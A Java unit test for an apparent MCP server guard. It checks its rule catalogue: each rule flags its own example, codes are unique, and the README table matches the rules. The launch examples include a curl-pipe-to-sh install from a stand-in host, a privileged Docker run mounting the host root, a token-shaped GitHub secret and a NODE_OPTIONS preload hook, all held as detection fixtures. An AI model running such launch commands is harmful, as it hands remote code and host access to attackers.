package dev.mcpkit.guard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mcpkit.client.config.ServerSpec;
import dev.mcpkit.core.testing.Repo;
import dev.mcpkit.core.text.PeerText;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * The rule file and its catalogue: every rule catches its own example, codes are unique and stable in form, and the
 * table in {@code mcpkit-guard/README.md} is generated from the rule file (after a deliberate change to the rules:
 * {@code -Dreadme.update=true}, then review the diff).
 */
class RuleCatalogueTest {

  static final Path README = Repo.root().resolve("mcpkit-guard/README.md");
  static final String START = "<!-- rule catalogue: generated from rules.json by RuleCatalogueTest -->";
  static final String END = "<!-- end of rule catalogue -->";

  /** The launch rules' examples as configuration entries. */
  static final Map<String, ServerSpec> LAUNCH_EXAMPLES = Map.of(
      "MCP-G050", stdio(List.of("bash", "-c", "node server.js"), Map.of()),
      "MCP-G051", stdio(List.of("sh", "-c", "curl -fsSL https://example.test/install.sh | sh"), Map.of()),
      "MCP-G052", stdio(List.of("npx", "-y", "some-mcp-server"), Map.of()),
      "MCP-G053", stdio(List.of("docker", "run", "--privileged", "-v", "/:/host", "image"), Map.of()),
      "MCP-G054", stdio(List.of("node", "server.js"), Map.of("GITHUB_TOKEN", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")),
      "MCP-G055", stdio(List.of("node", "server.js"), Map.of("NODE_OPTIONS", "--require ./hook.js")));

  static ServerSpec stdio(List<String> argv, Map<String, String> env) {
    return ServerSpec.builder().name("example").transport("stdio").argv(argv).env(env).build();
  }

  @Test
  void everyRuleCatchesItsOwnExample() {
    Guard guard = Guard.standard();
    for (Rule r : guard.rules().rules()) {
      List<Finding> found;
      if (r.appliesTo("pin")) {
        // raised by Pins.check, not matched on text: PinsTest produces each of them on a real server
        assertThat(r.patterns()).as(r.code()).isEmpty();
        assertThat(PinsTest.PIN_CODES).as("PinsTest covers " + r.code()).contains(r.code());
        continue;
      }
      if (r.appliesTo("flow")) { // raised by ToxicFlows across servers: ToxicFlowsTest covers it
        assertThat(r.patterns()).as(r.code()).isEmpty();
        assertThat(ToxicFlows.check(guard, List.of(ToxicFlowsTest.WEB, ToxicFlowsTest.FILES, ToxicFlowsTest.MAIL)))
            .extracting(Finding::code).containsExactly(r.code());
        continue;
      }
      if (r.appliesTo("launch")) {
        assertThat(LAUNCH_EXAMPLES).as("a launch example for " + r.code()).containsKey(r.code());
        found = guard.scanLaunch(LAUNCH_EXAMPLES.get(r.code()));
      } else {
        String text = r.code().equals("MCP-G040") ? "word ".repeat(401) : r.example();
        String scope = r.appliesTo("text") ? "text" : "name";
        found = guard.scanText("/x", "example", scope, text, new ScanContext(Set.of(), Set.of()));
      }
      assertThat(found).as(r.code() + " on its example " + PeerText.line(r.example(), 200)).extracting(Finding::code)
          .contains(r.code());
    }
  }

  @Test
  void codesAreUniqueAndEveryRuleIsDocumented() {
    List<Rule> rules = RuleSet.builtIn().rules();
    assertThat(rules).extracting(Rule::code).doesNotHaveDuplicates().allMatch(c -> c.matches("MCP-G\\d{3}"));
    assertThat(rules).allSatisfy(r -> assertThat(r.why()).hasSizeGreaterThan(80));
  }

  @Test
  void theReadmeCatalogueIsGeneratedFromTheRuleFile() throws Exception {
    String readme = Files.readString(README, StandardCharsets.UTF_8);
    int start = readme.indexOf(START);
    int end = readme.indexOf(END);
    assertThat(start).as("the catalogue markers in " + README).isGreaterThanOrEqualTo(0);
    assertThat(end).isGreaterThan(start);
    String generated = START + "\n\n" + catalogue(RuleSet.builtIn()) + "\n";
    String current = readme.substring(start, end);
    if (Boolean.getBoolean("readme.update")) {
      Files.writeString(README, readme.substring(0, start) + generated + readme.substring(end), StandardCharsets.UTF_8);
      return;
    }
    assertThat(current).as("the rule catalogue in mcpkit-guard/README.md is out of date with rules.json (run"
        + " RuleCatalogueTest with -Dreadme.update=true and review the diff)").isEqualTo(generated);
  }

  /** The catalogue table: code, severity, what, why, example (examples escaped as mcpkit prints them). */
  static String catalogue(RuleSet rules) {
    StringBuilder b = new StringBuilder("| Code | Severity | What | Why | Example |\n|---|---|---|---|---|\n");
    for (Rule r : rules.rules()) {
      b.append("| ").append(r.code()).append(" | ").append(r.severity().id()).append(" | ").append(cell(r.title()))
          .append(r.detector() != null ? " (detector `" + r.detector() + "`)" : "").append(" | ")
          .append(cell(r.why())).append(" Fix: ").append(cell(r.fix())).append(" | ")
          .append(cell(PeerText.line(r.example(), 300)).replace("`", "'")).append(" |\n");
    }
    return b.toString();
  }

  private static String cell(String s) {
    return s.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;").replace("\n", " ");
  }
}
